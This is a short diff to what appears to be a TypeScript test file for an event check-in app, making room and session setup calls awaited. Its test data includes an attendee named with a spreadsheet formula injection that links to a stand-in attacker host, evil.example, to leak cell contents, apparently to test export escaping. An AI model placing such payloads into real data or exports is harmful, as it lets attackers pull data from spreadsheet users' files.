@@ -30,8 +30,8 @@ async function get(built: Built, url: string, role: 'admin' | 'ops' | 'desk' | '
 async function scene(t: Parameters<typeof build>[0]) {
   const clock = testClock(T0);
   const built = await build(t, { deps: { clock } });
-  const room = addRoom(built.app, { name: 'Europa Hall', capacity: 50 });
-  addSession(built.app, { roomId: room, startsAt: T0, endsAt: T0 + minutes(60) });
+  const room = await addRoom(built.app, { name: 'Europa Hall', capacity: 50 });
+  await addSession(built.app, { roomId: room, startsAt: T0, endsAt: T0 + minutes(60) });
   const eve = await walkIn(built, { name: '=HYPERLINK("http://evil.example/?x="&A1,"click")', organization: '+31 Org', category: 'media', email: 'eve@example.org' });
   const anna = await walkIn(built, { name: 'Anna Müller', organization: '@TNO', category: 'academia', delegation: 'NL', flags: ['vip', 'accessibility'] });
   await scan(built, { code: anna.code });
